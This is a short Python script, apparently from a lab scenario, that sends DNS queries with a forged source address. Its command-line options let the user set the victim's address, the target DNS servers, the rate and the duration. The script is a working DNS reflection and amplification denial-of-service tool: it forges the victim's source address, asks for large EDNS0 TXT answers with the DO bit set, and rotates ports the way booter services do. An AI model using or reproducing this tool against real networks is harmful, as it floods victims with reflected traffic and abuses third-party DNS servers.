#!/usr/bin/env python3
"""dnslab.py: the spoofer of the dns-fragments lab scenario.

  spoof-dns  DNS queries (EDNS0 4096, DO bit) carrying someone else's
             source address, to one or more real DNS servers

The servers' answers then go to the address written as the source: a DNS
reflection. Queries are built with scapy and go out through one
IPPROTO_RAW socket; each has a random source port and DNS id, as attack
tools write them. Bounded by a count and a time limit.
"""

import argparse
import random
import socket
import time


def query(name):
    from scapy.layers.dns import DNS, DNSQR, DNSRROPT
    return bytes(DNS(id=random.randint(0, 65535), rd=0,
                     qd=DNSQR(qname=name, qtype="TXT"),
                     ar=DNSRROPT(rclass=4096, z=0x8000)))


def udp_packet(src, sport, dst, dport, payload):
    from scapy.layers.inet import IP, UDP
    return bytes(IP(src=src, dst=dst, ttl=64, id=random.randint(0, 65535)) /
                 UDP(sport=sport, dport=dport) / payload)


def cmd_spoof_dns(a):
    dsts = a.dst.split(",")
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    start = time.monotonic()
    n = 0
    while n < a.count and time.monotonic() - start < a.secs:
        delay = start + n / a.rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        dst = dsts[n % len(dsts)]
        # --ports N: the victim's ports a booter writes in, round robin
        # (each then draws the answers of every server).
        sport = (33000 + (n // len(dsts)) % a.ports if a.ports > 0
                 else random.randint(1024, 65535))
        pkt = udp_packet(a.src, sport, dst, 53, query(a.name))
        s.sendto(pkt, (dst, 0))
        n += 1
    print("sent %d spoofed queries as %s to %s" % (n, a.src, a.dst),
          flush=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawTextHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("spoof-dns")
    p.add_argument("--src", required=True, help="the victim's address")
    p.add_argument("--dst", required=True, help="servers, comma-separated")
    p.add_argument("--name", required=True)
    p.add_argument("--count", type=int, default=100)
    p.add_argument("--rate", type=float, default=100)
    p.add_argument("--secs", type=float, default=20)
    p.add_argument("--ports", type=int, default=0,
                   help="source ports 33000.. round robin (0: random)")
    a = ap.parse_args()
    cmd_spoof_dns(a)


if __name__ == "__main__":
    main()
